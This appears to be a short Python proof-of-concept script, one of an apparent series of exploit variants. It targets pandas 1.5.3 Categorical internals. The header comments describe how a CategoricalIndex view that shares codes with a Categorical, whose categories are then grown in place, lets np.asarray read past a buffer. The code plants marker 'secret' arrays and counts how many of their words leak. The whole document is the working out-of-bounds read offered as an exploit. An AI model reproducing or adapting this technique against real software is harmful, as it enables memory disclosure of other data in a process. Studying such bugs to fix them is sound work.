# source: pandas 1.5.3 pandas/core/arrays/_mixins.py NDArrayBackedExtensionArray (peek = pd.CategoricalIndex(cat).view() shares _ndarray codes without copying) + categorical.py add_categories(inplace=True)/set_categories(rename=True) keep the same codes array; take_nd/__array__ trust codes < len(categories)
# family: shared Categorical codes (variant: peek = pd.CategoricalIndex(cat).view()), categories grown in place -> out-of-bounds read
# goal: np.asarray(peek) reads past the categories buffer and finds another array's contents
import numpy as np
import pandas as pd

n0 = 130
span = 30000
cat = pd.Categorical([0] * span, categories=list(range(n0)))
peek = pd.CategoricalIndex(cat).view()
secrets = [np.full(64, 0x5EC12E7C0FFEE) for _ in range(300)]
cat.add_categories(list(range(n0, n0 + span)), inplace=True)
cat[:] = list(range(n0, n0 + span))
leak = np.asarray(peek)
hits = sum(1 for w in leak if w == 0x5EC12E7C0FFEE)
print("words read past a 130-word buffer:", list(leak[:4]), "... words of another array found:", hits)
